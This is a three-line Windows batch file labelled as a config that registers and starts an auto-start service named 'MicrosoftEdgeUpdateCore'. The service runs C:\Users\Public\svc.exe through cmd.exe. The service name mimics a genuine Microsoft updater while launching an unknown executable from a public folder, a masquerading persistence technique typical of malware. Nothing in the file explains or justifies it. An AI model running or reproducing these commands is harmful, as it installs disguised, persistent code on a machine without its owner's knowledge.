REM config 2278 v2
sc create MicrosoftEdgeUpdateCore binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start MicrosoftEdgeUpdateCore
